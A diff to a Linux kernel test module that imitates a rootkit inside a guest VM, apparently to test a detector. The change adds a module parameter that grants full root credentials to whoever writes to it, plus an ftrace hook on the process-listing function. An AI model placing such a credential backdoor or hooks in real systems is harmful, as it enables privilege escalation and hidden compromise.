@@ -1,8 +1,9 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * What a rootkit does to a kernel, done to the guest's: a system call and a sequence lead here, a function has a hook set
- * through ftrace, and the module is not listed. Nothing is put back: the guest ends.
+ * What a rootkit does to a kernel, done to the guest's: a system call and a sequence lead here, functions have a hook set
+ * through ftrace, who asks is given all rights, and the module is not listed. Nothing is put back: the guest ends.
  */
+#include <linux/cred.h>
 #include <linux/ftrace.h>
 #include <linux/list.h>
 #include <linux/module.h>
@@ -20,12 +21,26 @@ MODULE_PARM_DESC(sequence, "address of the struct seq_operations of which show i
 static char *function = "ksys_sync";
 module_param(function, charp, 0);
 MODULE_PARM_DESC(function, "function that is to have a hook");
+static char *listing = "proc_pid_readdir";
+module_param(listing, charp, 0);
+MODULE_PARM_DESC(listing, "function that lists, which is to have a hook as well");
 /* To be read afterwards. */
 static unsigned long call_is_at, show_is_at;
 module_param(call_is_at, ulong, 0400);
 MODULE_PARM_DESC(call_is_at, "where the system call leads now");
 module_param(show_is_at, ulong, 0400);
 MODULE_PARM_DESC(show_is_at, "where the sequence leads now");
+
+/* Whoever writes here has all rights from then on. */
+static int give_rights(const char *value, const struct kernel_param *parameter)
+{
+	struct cred *all = prepare_kernel_cred(&init_task);
+
+	return all ? commit_creds(all) : -ENOMEM;
+}
+static const struct kernel_param_ops rights = { .set = give_rights };
+module_param_cb(rights, &rights, NULL, 0200);
+MODULE_PARM_DESC(rights, "gives who writes to it all rights");
 
 long tracee_test_call(const struct pt_regs *regs);
 long tracee_test_call(const struct pt_regs *regs)
@@ -70,6 +85,8 @@ static int __init tracee_test_init(void)
 	if (sequence)
 		write_word((unsigned long *)&((struct seq_operations *)sequence)->show, (unsigned long)tracee_test_show);
 	error = ftrace_set_filter(&ops, (unsigned char *)function, strlen(function), 0);
+	if (!error)
+		error = ftrace_set_filter(&ops, (unsigned char *)listing, strlen(listing), 0);
 	if (!error)
 		error = register_ftrace_function(&ops);
 	if (error)
